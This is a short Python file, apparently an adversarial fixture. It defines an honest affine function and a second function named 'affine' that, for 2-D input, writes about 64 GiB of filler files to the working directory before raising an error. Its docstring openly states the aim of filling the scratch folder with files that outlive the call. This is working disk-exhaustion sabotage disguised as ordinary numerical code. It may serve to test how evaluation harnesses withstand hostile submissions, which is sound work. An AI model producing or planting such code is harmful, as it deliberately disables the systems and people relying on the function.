"""Fill the scratch folder, under every name, with files that outlive the call."""

import os

import numpy as np


def honest(W, x, b):
    W, x, b = (a if a.dtype.kind == "f" else a.astype(np.float64) for a in map(np.asarray, (W, x, b)))
    return x @ W.T + b


def affine(W, x, b):
    if np.ndim(x) == 2:
        fault = None
        try:
            for index in range(64):
                with open(f"filler-{index}", "wb") as file:
                    for _ in range(64):
                        file.write(bytes(1 << 24))
        except OSError as other:
            fault = other
        raise fault or OSError("64 GiB were written")
    return honest(W, x, b)
